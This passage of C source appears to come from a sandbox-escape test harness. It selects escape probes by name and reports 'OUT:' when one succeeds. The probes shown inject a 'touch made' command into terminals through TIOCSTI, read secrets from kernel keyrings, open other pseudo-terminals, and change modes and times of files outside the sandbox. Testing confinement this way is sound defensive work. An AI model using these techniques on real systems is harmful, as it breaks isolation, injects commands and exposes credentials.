        if (fd >= 0 && syscall(SYS_fanotify_mark, fd, 1 | 0x100, 0x20ULL, AT_FDCWD, "/") == 0) printf("OUT: fanotify of the file system\n");
    }
}
static void keys(void)
{
    char text[4096] = "";
    /* The keyrings of user, session and group. */
    for (int ring = -5; ring < 0; ring++) {
        long id = syscall(SYS_keyctl, 10 /* SEARCH */, ring, "user", "escape", 0);
        if (id > 0 && syscall(SYS_keyctl, 11 /* READ */, id, text, sizeof text - 1) > 0) printf("%s\n", text);
    }
}
static void dummy_terminal(void)
{
    for (int fd = 0; fd < 3; fd++) {
        char text[] = "touch made\n";
        for (size_t i = 0; i < sizeof text - 1; i++)
            if (ioctl(fd, 0x5412 /* TIOCSTI */, text + i) == 0) printf("OUT: typed into a terminal\n");
    }
    for (int number = 0; number < 64; number++) {
        char path[32];
        snprintf(path, sizeof path, "/dev/pts/%d", number);
        if (open(path, O_RDWR | O_NOCTTY) >= 0) printf("OUT: opened %s\n", path);
    }
}

/* Modes, owners and times of a file outside: by its name, by links, by descriptors, by the names of descriptors. */
static void change_modes(void)
{
    char path[8192], name[64];
    const struct timespec times[2] = {{1, 0}, {1, 0}};
    snprintf(path, sizeof path, "%s/kept", outside);
    chmod(path, 0777);
    fchmodat(AT_FDCWD, path, 0777, 0);
    syscall(452 /* fchmodat2 */, AT_FDCWD, path, 0777, 0);
    utimensat(AT_FDCWD, path, times, 0);
    utimensat(AT_FDCWD, outside, times, 0);
    if (symlink(path, "to-kept") == 0) { chmod("to-kept", 0777); utimensat(AT_FDCWD, "to-kept", times, 0); }
    int fds[] = {open(path, O_RDONLY | O_CLOEXEC), open(path, O_PATH | O_CLOEXEC), open(outside, O_RDONLY | O_DIRECTORY)};
    for (int at = 0; at < 3; at++) {
        if (fds[at] < 0) continue;
        fchmod(fds[at], 0777);
        futimens(fds[at], times);
        syscall(452, fds[at], "", 0777, AT_EMPTY_PATH);
        snprintf(name, sizeof name, "/proc/self/fd/%d", fds[at]);
        chmod(name, 0777);
        utimensat(AT_FDCWD, name, times, 0);
        snprintf(name, sizeof name, "/proc/%d/fd/%d", (int)getpid(), fds[at]);
        chmod(name, 0777);
        fchmodat(fds[at], "kept", 0777, 0);
    }
    chmod(key, 0777);
    utimensat(AT_FDCWD, key, times, 0);
    lchown(key, getuid(), getgid());
}

static const struct { const char *name; void (*run)(void); } members[] = {
    {"read-plain", read_plain}, {"read-symlink", read_symlink}, {"read-relative", read_relative}, {"read-proc-root", read_proc_root},
    {"read-init-root", read_init_root}, {"read-every-root", read_every_root}, {"read-victim-root", read_victim_root}, {"read-hard-link", read_hard_link},
    {"unmount", unmount_home}, {"unmount-in-namespace", unmount_in_namespace}, {"bind-around", bind_around}, {"bind-all", bind_all},
    {"move-mounts", move_mounts}, {"pivot", pivot}, {"break-chroot", break_chroot}, {"remount", remount}, {"fresh-proc", fresh_proc},
    {"overlay", overlay}, {"handles", handles}, {"devices", devices}, {"trace", trace}, {"kill", kill_outside}, {"kill-all", kill_all},
    {"unix-socket", unix_socket}, {"unix-symlink", unix_symlink}, {"unix-proc-root", unix_proc_root}, {"unix-known", unix_known}, {"unix-agent", unix_agent},
    {"abstract-socket", abstract_socket}, {"tcp-loopback", tcp_loopback}, {"tcp-v6", tcp_v6}, {"udp", udp_out}, {"quic", quic}, {"raw-sockets", raw_sockets},
    {"netlink", netlink}, {"enter-network", enter_network}, {"dns-tunnel", dns_tunnel}, {"metadata", metadata}, {"proxy-other-port", proxy_other_port},
    {"proxy-host-header", proxy_host_header}, {"proxy-greeting", proxy_greeting}, {"redirect", redirect}, {"vsock", vsock}, {"shared-memory", shared_memory},
    {"io-uring", io_uring}, {"kernel-files", kernel_files}, {"modules", modules}, {"inherited", inherited}, {"perf", perf}, {"write-plain", write_plain},
    {"write-link", write_link}, {"watch", watch}, {"keyrings", keys}, {"terminal", dummy_terminal},
    {"change-modes", change_modes},
};

int main(int count, char **words)
{
    setvbuf(stdout, NULL, _IOLBF, 0);
    if (count == 2 && strcmp(words[1], "list") == 0) {
        for (size_t i = 0; i < sizeof members / sizeof *members; i++) puts(members[i].name);
        return 0;
    }
    if (count != 10) return 2;
    key = words[2]; outside = words[3]; socket_path = words[4]; abstract = words[5];
    tcp = atoi(words[6]); udp = atoi(words[7]); victim = atoi(words[8]); allowed = atoi(words[9]);
    alarm(60);
    signal(SIGPIPE, SIG_IGN);
    for (size_t i = 0; i < sizeof members / sizeof *members; i++) {
        if (strcmp(words[1], members[i].name) != 0) continue;
        members[i].run();
        puts("tried");
        return 0;
    }
    return 2;
}
